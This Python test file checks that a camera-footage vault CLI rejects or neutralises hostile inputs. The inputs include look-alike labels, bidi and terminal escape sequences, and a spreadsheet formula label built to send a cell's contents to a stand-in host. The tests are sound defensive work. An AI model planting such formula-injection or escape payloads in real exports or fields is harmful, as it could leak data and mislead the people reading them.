"""Hostile use of `strongroom cameras`: labels and facility names built to confuse a person or a
terminal, look-alike labels, asking the timeline for a camera by a label it no longer stands
under, deleting a camera row by hand, and a label built to run in a spreadsheet.

One small vault (three generated clips, probe + overlay_ocr) is built per module; each test
works on its own copy, through the real CLI and real SQLite.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import datetime
from pathlib import Path

import pytest

from conftest import Template, cli, open_vault, sql
from strongroom.ingest import ingest
from strongroom.pipeline.runner import process
from strongroom.testmedia import ClipSpec, generate_clip

C03, C07, C11 = "КАМ 03 ПФРСИ", "КАМ 07 ОТБ-1 САРАТОВ", "КАМ 11 ИК-10"
CLIPS = [
    ClipSpec(name="cam03.mp4", duration=4, camera_label=C03,
             clock_start=datetime(2020, 3, 14, 2, 17, 0)),
    ClipSpec(name="cam07.mp4", duration=4, camera_label=C07,
             clock_start=datetime(2020, 3, 15, 23, 49, 55), clock_format="YYYY/MM/DD"),
    ClipSpec(name="cam11.mp4", duration=4, camera_label=C11,
             clock_start=datetime(2021, 6, 2, 14, 5, 30), clock_format="DD.MM.YYYY",
             source="life", seed=11),
]


@pytest.fixture(scope="module")
def cams(template: Template, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-cameras")
    media = root / "usb"
    media.mkdir()
    for spec in CLIPS:
        generate_clip(spec, media)
    path = root / "vault"
    shutil.copytree(template.path, path)
    with open_vault(path, template.keys) as v:
        ingest(v, media, "test clips")
        process(v, steps=["probe", "overlay_ocr"], workers=2, executor="process")
    listed = json.loads(cli("cameras", "list", path, "--json").stdout)
    assert sorted(c["label"] for c in listed) == sorted([C03, C07, C11])
    return path


@pytest.fixture
def vault(cams: Path, tmp_path: Path) -> Path:
    path = tmp_path / "vault"
    shutil.copytree(cams, path)
    return path


def annotated(path: Path) -> list[dict[str, object]]:
    r = cli("log", path, "--action", "annotated", "--json")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)  # type: ignore[no-any-return]


def problems(path: Path) -> list[str]:
    report = json.loads(cli("verify", path, "--json").stdout)
    return [f"{p['subject']}: {p['message']}" for p in report["problems"]]


def test_rename_to_a_look_alike_of_another_camera_is_refused(vault: Path) -> None:
    """Latin KAM for Cyrillic КАМ, lower case or doubled spaces: two cameras nobody can tell
    apart in `cameras list`, the timeline or a report. Refused, with the merge to run."""
    for twin, of in (("KAM 03 ПФРСИ", C03), ("кам 07 отб-1 саратов", C07),
                     ("KAM O3 ПФРСИ", C03)):
        r = cli("cameras", "rename", vault, C11, twin)
        assert r.returncode == 2, (twin, r.stdout)
        assert "reads the same as camera" in r.stderr and f"merge VAULT '{C11}' '{of}'" in (
            r.stderr), r.stderr
    assert annotated(vault) == []
    # its own label in another script or case is still a rename of that camera
    r = cli("cameras", "rename", vault, C11, "Кам 11 ИК-10 Владимир", "--json")
    assert r.returncode == 0, r.stderr
    r = cli("cameras", "rename", vault, "Кам 11 ИК-10 Владимир", "КАМ 11 ИК-10 ВЛАДИМИР")
    assert r.returncode == 0, r.stderr
    assert problems(vault) == []


def test_rename_to_what_ocr_reads_on_another_renamed_camera_is_refused(vault: Path) -> None:
    """Camera 03 renamed by a person: clips whose overlay OCR reads its old label still land
    on it. Another camera given that old label would stand for clips it never gets."""
    assert cli("cameras", "rename", vault, C03, "Прогулочный двор 1").returncode == 0
    for twin in (C03, "KAM 03 ПФРСИ"):
        r = cli("cameras", "rename", vault, C11, twin)
        assert r.returncode == 2, (twin, r.stdout)
        assert "is what OCR read on the clips of camera 'Прогулочный двор 1'" in r.stderr, \
            r.stderr
    assert [e["details"]["change"] for e in annotated(vault)] == ["renamed"]
    assert problems(vault) == []


@pytest.mark.parametrize(("args", "message"), [
    (("rename", C11, "X" * 201), "at most 200"),
    (("rename", C11, "K\u202e11"), "printable"),
    (("rename", C11, "K\x1b[2J11"), "printable"),
    (("map", C11, "--facility", ""), "facility name must be printable and not empty"),
    (("map", C11, "--facility", " \t "), "facility name must be printable and not empty"),
    (("map", C11, "--facility", "ИК-10\x1b]0;pwned\x07"), "printable"),
    (("map", C11, "--facility", "ИК\u200b-10"), "printable"),
    (("map", C11, "--facility", "ИК-10", "--type", "\u202eИК"), "facility type"),
    (("map", C11, "--facility", "ИК-10", "--region", "R" * 10_000), "at most 200"),
])
def test_labels_and_facility_names_are_printable_and_bounded(vault: Path, args: tuple[str, ...],
                                                              message: str) -> None:
    """What a person types is shown in terminals, timelines and reports: control characters,
    bidi overrides and zero-width characters are refused, and so are empty and 10,000-character
    names; nothing is recorded."""
    r = cli("cameras", args[0], vault, *args[1:], "--json")
    assert r.returncode == 2, r.stdout
    assert message in json.loads(r.stdout)["error"]
    assert annotated(vault) == []
    assert all(line.isprintable() for line in cli("cameras", "list", vault).stdout.splitlines())


def test_mapping_keeps_a_name_as_typed_with_single_spaces(vault: Path) -> None:
    r = cli("cameras", "map", vault, C11, "--facility", "  ИК-10\n Владимир ", "--type",
            "ИК", "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["facility"] == "ИК-10 Владимир"
    listed = {c["label"]: c for c in json.loads(cli("cameras", "list", vault, "--json").stdout)}
    assert listed[C11]["facility"] == "ИК-10 Владимир"
    assert problems(vault) == []


def test_timeline_by_a_merged_or_ocr_label_names_the_camera_it_stands_under(
        vault: Path) -> None:
    """A camera merged away, or the label OCR read before a rename, is not "no segments": the
    clips are there, under another label, and the error says which."""
    assert cli("cameras", "rename", vault, C11, "КАМ 11 ИК-10 Владимир").returncode == 0
    assert cli("cameras", "merge", vault, C03, C07).returncode == 0
    r = cli("timeline", vault, "--camera", C03, "--json")
    assert r.returncode == 2
    assert json.loads(r.stdout)["error"] == (
        f"camera '{C03}' is merged into '{C07}': its segments are under --camera '{C07}'")
    r = cli("timeline", vault, "--camera", C11)
    assert r.returncode == 2 and "under --camera 'КАМ 11 ИК-10 Владимир'" in r.stderr, r.stderr
    r = cli("timeline", vault, "--camera", C07, "--json")
    assert r.returncode == 0, r.stderr
    assert {e["read_as"] for e in json.loads(r.stdout)["cameras"][C07]} == {C03, C07}
    assert cli("timeline", vault, "--camera", "КАМ 11 ИК-10 Владимир").returncode == 0
    r = cli("timeline", vault, "--camera", "КАМ 99")
    assert r.returncode == 2 and "no segments for camera 'КАМ 99'" in r.stderr
    # the renamed camera merged on: its OCR label now leads to the target
    assert cli("cameras", "merge", vault, C07, "КАМ 11 ИК-10 Владимир").returncode == 0
    r = cli("timeline", vault, "--camera", C03)
    assert r.returncode == 2 and "under --camera 'КАМ 11 ИК-10 Владимир'" in r.stderr


def test_verify_names_a_camera_row_deleted_by_hand(vault: Path) -> None:
    assert cli("cameras", "rename", vault, C11, "К11").returncode == 0
    assert cli("cameras", "map", vault, C07, "--facility", "ОТБ-1").returncode == 0
    assert problems(vault) == []
    sql(vault, "DELETE FROM camera WHERE label IN ('К11', ?)", (C07,))
    found = problems(vault)
    for label in ("К11", C07):
        assert any(p.startswith(f"camera '{label}': recorded by custody event")
                   and "missing from the catalogue (deleted)" in p for p in found), found


def test_merge_chain_export_and_a_label_built_for_a_spreadsheet(vault: Path,
                                                                tmp_path: Path) -> None:
    """A merged into B, then B into C: A follows with its own event; the bag shows every clip
    under C and verifies; a label that is a spreadsheet formula stays text in originals.csv."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    assert cli("cameras", "rename", vault, C11, formula).returncode == 0
    assert cli("cameras", "merge", vault, C03, C07).returncode == 0
    r = cli("cameras", "merge", vault, C07, formula, "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout) == {"merged": [C07, C03], "into": formula}
    events = annotated(vault)
    assert [(e["details"]["camera"], e["details"]["change"], e["details"]["merged_into_label"])
            for e in events[-2:]] == [(C07, "merged", formula), (C03, "merged", formula)]
    assert events[-1]["details"]["previous"]["merged_into"] == events[-2]["details"]["camera_id"]
    for bad in ((C11, C03), (formula, C03), (C03, C03)):  # cycles, into a merged camera
        assert cli("cameras", "merge", vault, *bad).returncode == 2, bad
    assert problems(vault) == []

    out = tmp_path / "out"
    r = cli("export", vault, "--all", "--to", out, "--no-pdf", "--json")
    assert r.returncode == 0, r.stderr
    bag = out / "bag"
    records = json.loads((bag / "data/metadata/originals.json").read_text("utf-8"))
    assert {s["camera"] for rec in records for s in rec["segments"]} == {formula}
    rows = list(csv.DictReader(io.StringIO(
        (bag / "data/metadata/originals.csv").read_text("utf-8-sig"))))
    assert {row["cameras"] for row in rows} == {"'" + formula}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows
                   for cell in row.values())
    custody = (bag / "data/custody/events.jsonl").read_text("utf-8")
    for label in (C03, C07):
        assert f'"camera":"{label}"' in custody
    r = cli("verify-export", bag, "--json")
    assert r.returncode == 0, r.stdout
